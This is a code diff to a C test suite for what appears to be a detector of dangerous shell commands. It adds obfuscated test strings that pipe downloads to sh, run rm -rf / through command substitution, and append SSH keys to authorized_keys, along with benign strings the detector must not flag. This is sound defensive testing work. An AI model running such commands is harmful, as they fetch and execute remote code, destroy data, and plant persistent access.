@@ -33,7 +33,13 @@ static const struct {
 	{ "{curl,-s,http://x}|sh", " curl -s http://x |sh" },
 	{ "{\"a\": 1}", "{a: 1}" }, { "${URL}", "${URL}" }, { "$(x)", "$(x)" },
 	{ "\\", "" }, { "$", "$" }, { "{", "{" }, { "${IFS", "${IFS" },
-	{ "\\x", "x" }, { "\\xzz", "xzz" }, { "", "" }
+	{ "\\x", "x" }, { "\\xzz", "xzz" }, { "", "" },
+	{ "$(echo rm) -rf", "rm -rf" }, { "`which  sh`;", "sh;" },
+	{ "x | $( command -v /bin/sh)", "x | /bin/sh" },
+	{ "\"$(printf %s a b)\"", "a b" }, { "cu$(echo rl)", "cu$(echo rl)" },
+	{ "cu\"\"$(echo rl)", "cu$(echo rl)" }, { "`echo r`m", "`echo r`m" },
+	{ "$(echo $x)", "$(echo $x)" }, { "$(echo a", "$(echo a" },
+	{ "$(ls a)", "$(ls a)" }, { "$(echo )", "$(echo )" }, { "`", "`" }
 };
 
 ATF_TC_WITHOUT_HEAD(plain_text);
@@ -59,7 +65,7 @@ static const char *const pieces[] = {
 	":", ".", "'", "'", "\"", "\"", "\\", "\\", "$", "$@", "$*", "$1",
 	"$IFS", "${IFS}", "{", "}", "\\n", "\\t", "\\x63", "\\x2", "\\143",
 	"\\u0063", "\\u0026", "\\u2019", "\\\n", "\\\r\n", "$'", "''",
-	"\"\"", "a long word that is none of them", "..............."
+	"\"\"", "$(echo ", "`which ", ")", "`", "a long word that is none of them", "..............."
 };
 
 /* What is not looked at any further could not have been a command. */
@@ -182,6 +188,11 @@ static const struct {
 	{ "pipe_to_shell", "$'\\x63url' " U " | sh" },
 	{ "pipe_to_shell", "iwr -useb " U " | iex" },
 	{ "pipe_to_shell", "curl -so /tmp/i.sh " U " && sh /tmp/i.sh" },
+	{ "pipe_to_shell", "curl -s " U " |\n  sh" },
+	{ "pipe_to_shell", "curl -s " U " | \r\n\r\n\tsudo bash" },
+	{ "pipe_to_shell", "curl -s " U " |  # get\n# and run\ntee a |\nsh" },
+	{ "pipe_to_shell", "$(echo curl) -s " U " | sh" },
+	{ "pipe_to_shell", "curl -s " U " | `which sh`" },
 	{ "shell_exec_flag", "bash -c 'id; echo x'" },
 	{ "shell_exec_flag", "/usr/bin/bash -c 'id; echo x'" },
 	{ "shell_exec_flag", "/usr/bin/env sh -c 'id; echo x'" },
@@ -216,6 +227,9 @@ static const struct {
 	{ "destructive_rm", "rm -rf \"/\"" },
 	{ "destructive_rm", "rm -rf \"$HOME\"" },
 	{ "destructive_rm", "rm -rf '/'home" },
+	{ "destructive_rm", "$(echo rm) -rf /" },
+	{ "destructive_rm", "\"`command -v rm`\" -rf /home" },
+	{ "destructive_rm", "$(echo rm -rf) \"$(echo /)\"" },
 	{ "ssh_authorized_key", "echo '" K "' >> ~/.ssh/authorized_keys" },
 	{ "ssh_authorized_key", "echo '" K "'>>~/.ssh/authorized_keys" },
 	{ "ssh_authorized_key", "echo${IFS}'" K "'${IFS}>>${IFS}"
@@ -295,7 +309,15 @@ static const char *const quiet[] = {
 	"rm -rf \"$TMPDIR/x\" 'build'\n",
 	"s = s.replace('\\n', ' | ').split(\"bash\")\n",
 	"The 'find' tool isn't like \"grep\"; {a,b} is a list of the shell.\n",
-	"echo \"it's\" > ~/.ssh/config\n"
+	"echo \"it's\" > ~/.ssh/config\n",
+	"| curl https://x.example/i.sh |\n| sh |\n",
+	"a table: curl https://x.example/i.sh |\n | sh |\n",
+	"  | curl https://x.example/i.sh |\nsh reads a file\n",
+	"curl https://x.example/a.json |\n  jq .bash\n",
+	"run: |\n  curl -o a.tgz https://x.example/a.tgz\n  sh --version\n",
+	"if (curl ||\n    sh) return \"bash\";\n",
+	"where `which python3` says `echo bash`\n",
+	"$(which python3) -m venv .venv && `which npm` ci\n"
 };
 
 ATF_TC_WITHOUT_HEAD(benign);
